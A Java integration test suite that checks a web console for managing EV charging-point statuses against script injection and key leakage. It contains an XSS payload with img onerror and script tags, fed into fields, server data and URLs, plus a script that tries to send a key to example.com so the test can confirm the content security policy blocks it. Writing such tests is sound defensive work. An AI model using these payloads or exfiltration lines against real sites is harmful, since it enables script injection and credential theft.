package temporaryevse.console;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import temporaryevse.testing.KeyedRun;

/** What the console keeps, sends and runs: nothing but its own. */
@InBrowser
class ConsoleSafetyIT {

  private static final String SCRIPT =
      "\"'><img src=x onerror=\"window.hacked=1\"><script>window.hacked=1</script>";

  private static final String IN_ADDRESS =
      SCRIPT.replace(" ", "%20").replace("\"", "%22").replace("/", "%2F");

  private final KeyedRun run;
  private final ConsolePage page;
  private final ConsoleFleet fleet;

  ConsoleSafetyIT(KeyedRun run, ConsolePage page) {
    this.run = run;
    this.page = page;
    this.fleet = ConsoleFleet.of(run);
  }

  private void assertThatNoScriptRan() {
    assertThat(page.value("return String(window.hacked)")).isEqualTo("undefined");
    assertThat(page.value("return document.querySelectorAll('img, main script').length"))
        .isEqualTo("0");
    page.assertThatNothingFailed();
  }

  @Test
  void aScriptInATextIsText() {
    long id =
        fleet.status(
            1,
            "\"temporaryStatus\":\"BLOCKED\",\"note\":\"%1$s\",\"reference\":\"<b>%2$s</b>\""
                .formatted(SCRIPT.replace("\"", "\\\""), "17"));
    page.signIn(fleet.key(), fleet.operator());
    page.click(fleet.evse(1));
    page.see(SCRIPT);
    page.see("<b>17</b>");
    page.click("Change status %d, Blocked".formatted(id));
    page.await("the note", () -> SCRIPT.equals(page.field("Note").getDomProperty("value")));
    fleet.change(id, "\"note\":\"<i>theirs</i>\"");
    page.type("Reference", "<u>mine</u>");
    page.click("Change");
    page.see("→ <i>theirs</i>");
    page.see("<b>17</b> → <u>mine</u>");
    assertThatNoScriptRan();
  }

  @Test
  void aScriptInAFieldIsText() {
    page.open();
    page.enter(SCRIPT, SCRIPT);
    page.see("This key is not valid");
    page.signIn(fleet.key(), fleet.operator());
    page.type("Find", SCRIPT);
    page.click("Set a status");
    page.type("EVSEs", SCRIPT.replace(' ', '/'));
    page.click("Add a language");
    page.type("Language, such as en", "<i");
    page.type("Text for drivers", SCRIPT);
    page.type("Note", SCRIPT);
    page.type("Reference", SCRIPT);
    page.click("Set the status");
    page.await(
        "what is wrong",
        () ->
            !page.value(
                    "return [...document.querySelectorAll('.problem')].map(each =>"
                        + " each.innerText).join('')")
                .isEmpty());
    page.go("evse/" + IN_ADDRESS);
    page.see("EVSE " + SCRIPT);
    page.go("set/" + IN_ADDRESS);
    page.await("the id", () -> SCRIPT.equals(page.field("EVSEs").getDomProperty("value")));
    assertThatNoScriptRan();
  }

  @Test
  void theKeyIsInTheMemoryOfTheTabAndGoesNowhereElse() {
    fleet.status(1, "\"temporaryStatus\":\"BLOCKED\"");
    page.signIn(fleet.key(), fleet.operator());
    page.click("Timeline");
    page.see("1 to 1 of 1 EVSEs");

    assertThat(
            page.value(
                "return localStorage.length + sessionStorage.length + document.cookie.length"))
        .isEqualTo("0");
    assertThat(
            page.value(
                "return location.href + document.documentElement.outerHTML"
                    + " + performance.getEntries().map(each => each.name)"))
        .doesNotContain(fleet.key().text());
    assertThat(
            page.texts(
                "return performance.getEntriesByType('resource').map(each => new"
                    + " URL(each.name).origin)"))
        .isNotEmpty()
        .containsOnly(page.value("return location.origin"));
    page.click("Sign out");
    page.see("The key stays in the memory of this tab.");
    page.signIn(fleet.key(), fleet.operator());
    page.open();
    assertThat(page.field("Key").getDomProperty("value")).isEmpty();
  }

  @Test
  void theBrowserRefusesWhatIsNotOfThisPage() {
    page.signIn(fleet.key(), fleet.operator());
    // As a script would that got in all the same.
    String refused =
        page.value(
            """
            const violations = [];
            document.addEventListener('securitypolicyviolation', each => violations.push(each.effectiveDirective));
            const script = document.createElement('script');
            script.textContent = 'window.hacked = 1';
            document.body.append(script);
            const image = new Image();
            image.src = 'https://example.com/?key';
            return fetch('https://example.com/').catch(() => new Promise(done => setTimeout(() =>
              done(violations.sort().join(' ') + ' ' + window.hacked), 100)));
            """);

    assertThat(refused).isEqualTo("connect-src img-src script-src-elem undefined");
  }

  @ParameterizedTest
  @ValueSource(strings = {"", "Bearer tevse_no_key"})
  void theFilesAreOpenAndTheDataIsNot(String authorization) throws Exception {
    HttpResponse<String> file = get("/console/main.js", authorization);
    HttpResponse<String> data = get("/v2/effective-evse-statuses", authorization);

    assertThat(file.statusCode()).isEqualTo(200);
    assertThat(file.headers().firstValue("Content-Type"))
        .contains("text/javascript; charset=utf-8");
    assertThat(data.statusCode()).isEqualTo(401);
    assertThat(get("/console/temporaryevse/console/ServeConsole.class", "").statusCode())
        .isEqualTo(404);
  }

  private HttpResponse<String> get(String path, String authorization) throws Exception {
    URI address = run.run().address().resolve(path);
    HttpRequest.Builder request = HttpRequest.newBuilder(address);
    for (String each : List.of(authorization)) {
      if (!each.isEmpty()) {
        request.header("Authorization", each);
      }
    }
    try (HttpClient client = HttpClient.newHttpClient()) {
      return client.send(request.build(), HttpResponse.BodyHandlers.ofString());
    }
  }
}
